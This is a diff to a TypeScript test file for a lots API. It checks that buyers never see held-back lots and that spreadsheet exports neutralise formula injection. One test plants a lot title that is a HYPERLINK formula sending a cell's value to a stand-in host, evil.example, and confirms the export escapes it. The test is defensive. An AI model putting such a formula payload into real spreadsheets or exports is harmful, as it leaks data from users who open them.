@@ -1,10 +1,11 @@
+// Over 400 lines: the lots screen's suites (access, list, PRS, price, detail, export) share one promotion world.
 import { LOT_MESSAGES, MESSAGES, XLSX_FORMATS } from '@promovente/shared';
 import { eq } from 'drizzle-orm';
-import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { actionLots, applications, buildings, candidacies, candidates, logs, lots, tasks } from '../../db/schema/index.js';
 import { bearer, createBuildingWithLots, createPromotion, createUser, signIn } from '../../test/fixtures.js';
 import { createTestContext, type TestContext } from '../../test/harness.js';
+import { isLiveFormula, loadWorkbook, readXlsx } from '../../test/xlsx-reader.js';
 
 let ctx: TestContext;
 beforeAll(async () => {
@@ -82,6 +83,30 @@ describe('who may call the lots routes (docs/product/access.md#route-table and d
     }
     const broker = await token('broker');
     expect((await get('/api/candidate/lots', broker.token)).statusCode).toBe(403);
+  });
+
+  it("never shows PRS to a buyer: a lot held back reads 'Disponible' in the rows, the counts and the status filter", async () => {
+    const { lots: rows, token } = await setup();
+    const broker = await token('broker');
+    expect((await put(`/api/lots/${rows[0].id}`, broker.token, { id: rows[0].id, status: 1 })).statusCode).toBe(200);
+    // The staff see the hold.
+    const staff = (await get('/api/lots', broker.token)).json();
+    expect(staff.data.find((lot: { id: number }) => lot.id === rows[0].id)).toMatchObject({ status: 1, status_text: 'PRS' });
+
+    const candidate = await token('candidate');
+    const grid = await get('/api/candidate/lots', candidate.token);
+    expect(grid.statusCode).toBe(200);
+    expect(grid.json().data.find((lot: { id: number }) => lot.id === rows[0].id)).toMatchObject({ status: 0, status_text: 'Disponible' });
+    expect(grid.json().status_counts).toEqual({ 0: 3, 1: 0, 2: 0, 3: 0, 4: 0 });
+    expect(grid.body).not.toContain('PRS');
+    // Asking for the available lots gives the held one too; asking for PRS gives nothing.
+    expect((await get('/api/candidate/lots?status=0', candidate.token)).json().total).toBe(3);
+    const prs = await get('/api/candidate/lots?status=1', candidate.token);
+    expect([prs.statusCode, prs.json().total]).toEqual([200, 0]);
+    expect((await get('/api/candidate/lots?status=1,4', candidate.token)).json().total).toBe(0);
+    // Sorted by status, the held lot takes its place among the available ones (by reference), not after them.
+    const sorted = (await get('/api/candidate/lots?orderBy=status&order=asc', candidate.token)).json().data;
+    expect(sorted.map((lot: { reference: string }) => lot.reference)).toEqual(['A-101', 'A-102', 'A-103']);
   });
 
   it('lets only brokers change a lot', async () => {
@@ -455,8 +480,7 @@ describe("'Liste des lots' (docs/product/lots.md#screens: brokers)", () => {
     const file = await ctx.app.inject({ method: 'GET', url });
     expect(file.statusCode).toBe(200);
     expect(file.headers['content-type']).toContain('spreadsheetml');
-    const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.load(file.rawPayload as unknown as ArrayBuffer);
+    const workbook = await loadWorkbook(file.rawPayload);
     const sheet = workbook.getWorksheet('Lots');
     expect(sheet?.rowCount).toBe(1 + 45);
     expect(sheet?.getRow(1).getCell(2).value).toBe('Lot');
@@ -468,5 +492,19 @@ describe("'Liste des lots' (docs/product/lots.md#screens: brokers)", () => {
     expect(typeof sheet?.getRow(2).getCell(7).value).toBe('number');
     // 'General' is Excel's default format: the file leaves it unwritten.
     expect(sheet?.getRow(2).getCell(7).numFmt ?? XLSX_FORMATS.decimal).toBe('General');
+  });
+  it('writes a title a spreadsheet would run as inert text, in the file and once saved as CSV (openpyxl, Gnumeric)', async () => {
+    const { token } = await setup([500_000, 600_000]);
+    const { token: broker } = await token('broker');
+    const hostile = '=HYPERLINK("http://evil.example/?x="&B2,"Plan")';
+    await ctx.database.db.update(lots).set({ title: hostile, exposure: '-Sud' }).where(eq(lots.rawPrice, 500_000));
+    const { url } = (await get('/api/lots/download?orderBy=price&order=asc', broker)).json().data;
+    const read = readXlsx((await ctx.app.inject({ method: 'GET', url })).rawPayload);
+    expect(read.formulas).toEqual([]);
+    expect(read.cells[1][2]).toMatchObject({ type: 's', value: `'${hostile}` });
+    expect(read.csv[1][2]).toBe(`'${hostile}`);
+    expect(read.csv[1][9]).toBe("'-Sud");
+    expect(read.cells[1][10]).toMatchObject({ type: 'n', value: 500_000 });
+    expect(read.csv.flat().filter(isLiveFormula)).toEqual([]);
   });
 });
